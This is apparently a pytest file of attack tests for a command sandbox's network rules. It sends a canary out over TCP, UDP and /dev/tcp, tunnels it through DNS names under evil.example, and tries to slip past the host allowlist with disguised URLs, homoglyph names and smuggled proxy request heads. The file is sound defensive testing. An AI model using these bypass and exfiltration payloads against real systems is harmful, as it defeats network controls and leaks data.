"""Attacks by network: data is sent out past the rules, or the rules are read otherwise than they were meant."""

from __future__ import annotations

import sys

import pytest
from tests.attacks.arena import CANARY, Arena, How
from tests.attacks.ears import tcp_ear, udp_ear, web_ear

from journeyman.testing.responses_script import Call, run


def python(script: str) -> Call:
    return run(f"{sys.executable} - <<'E'\nimport socket\n{script}\nE")


def udp(port: int) -> str:
    return (
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        f"s.sendto(b'{CANARY[:6]}.evil.example', ('127.0.0.1', {port}))"
    )


@pytest.mark.attack(
    "N01",
    "a program opens TCP, UDP and raw sockets itself",
    "commands have a network namespace of their own, in which there is nothing but a loopback",
)
async def test_n01_no_socket_leaves_the_sandbox(arena: Arena) -> None:
    tcp = arena.listen(tcp_ear())
    await arena.holds(python(f"socket.create_connection(('127.0.0.1', {tcp.port}))"))
    await arena.holds(run(f"bash -c 'echo x > /dev/tcp/127.0.0.1/{tcp.port}'"))
    await arena.holds(python(udp(arena.listen(udp_ear()).port)))
    kinds = ("AF_INET, socket.SOCK_RAW, 1", "AF_PACKET, socket.SOCK_RAW", "AF_VSOCK")
    for kind in kinds:
        refused = await arena.turn(python(f"socket.socket(socket.{kind})"))
        assert "Operation not permitted" in refused.output or "not supported" in refused.output


@pytest.mark.attack(
    "N02",
    "data leaves in the names of DNS queries, where some hosts are allowed",
    "names are resolved by the proxy, outside of the sandbox, and only those that a rule names",
)
async def test_n02_names_are_not_resolved_for_commands(arena: Arena) -> None:
    how = How(config={"network.allow": ["pypi.org"]})
    resolver = arena.listen(udp_ear())
    await arena.holds(python(udp(resolver.port)), how=how)
    lookup = python(f"socket.getaddrinfo('{CANARY[:6]}.evil.example', 80)")
    assert "gaierror" in (await arena.turn(lookup, how=how)).output
    tunnel = run(f"curl -sS --max-time 20 https://{CANARY[:6]}.evil.example/")
    refused = await arena.turn(tunnel, how=how)
    assert "(network.allow names no such host)" in refused.output


@pytest.mark.attack(
    "N03",
    "a host looks like an allowed one: prefix, suffix, user name, trailing dot, other forms of an address",
    "one strict parser reads hosts; a rule is compared with the whole name, and addresses after resolving",
)
async def test_n03_only_the_very_host_is_allowed(arena: Arena) -> None:
    # All of 127/8 is this machine: one address is allowed, another one is the attacker's.
    with web_ear("127.0.0.1") as good:
        port = arena.listen(web_ear("127.0.0.2")).port
        allow = ["localhost", f"127.0.0.1:{good.port}", "*.localhost"]
        how = How(config={"network.allow": allow})
        for url in (
            f"http://127.0.0.2:{port}/",
            f"http://localhost@127.0.0.2:{port}/",
            f"http://127.0.0.1:{good.port}@127.0.0.2:{port}/",
            f"http://2130706434:{port}/",
            f"http://0x7f000002:{port}/",
            f"http://127.2:{port}/",
            f"http://0177.0.0.2:{port}/",
            f"http://[::ffff:127.0.0.2]:{port}/",
        ):
            await arena.holds(run(f"curl -sS --max-time 20 --noproxy '' '{url}'"), how=how)
        proxied = (
            f"GET http://127.0.0.2:{port}/ HTTP/1.1\\r\\nHost: localhost\\r\\n\\r\\n",
            f"CONNECT 127.0.0.2:{port} HTTP/1.1\\r\\nHost: localhost:{port}\\r\\n\\r\\n",
            f"GET http://localhost:{port}\\\\@127.0.0.2:{port}/ HTTP/1.1\\r\\n\\r\\n",
            f"GET http://127.0.0.2:{port}/ HTTP/1.1\\r\\nHost: a\\r\\nHost: localhost\\r\\n\\r\\n",
        )
        for head in proxied:
            script = (
                "s = socket.create_connection(('127.0.0.1', 3128)); s.settimeout(20)\n"
                f"s.sendall(b'{head}'); print(s.recv(99))"
            )
            held = await arena.turn(python(script), how=how)
            assert (held.harm, "HTTP/1.1 4" in held.output) == ([], True), held
        names = ("evillocalhost", "localhost.evil.example", "loc\u0430lhost")
        held = await arena.turn(*(run(f"curl -sS http://{name}/") for name in names), how=how)
        assert all("(network.allow names no such host)" in output for output in held.outputs)
        await arena.turn(run(f"curl -sS --noproxy '' http://127.0.0.1:{good.port}/"), how=how)
        assert good.heard()


@pytest.mark.attack(
    "N04",
    "an allowed host sends on to another one",
    "the proxy follows nothing; the program's next connection is held against the rules again",
)
async def test_n04_redirect_is_checked_again(arena: Arena) -> None:
    evil = arena.listen(web_ear("127.0.0.2"))
    with web_ear("127.0.0.1") as good:
        good.redirect = f"http://127.0.0.2:{evil.port}/"
        how = How(config={"network.allow": [f"127.0.0.1:{good.port}"]})
        follow = run(f"curl -sSL --max-time 20 --noproxy '' http://127.0.0.1:{good.port}/")
        held = await arena.holds(follow, how=how)
        assert f"The sandbox refused GET 127.0.0.2:{evil.port}" in held.output
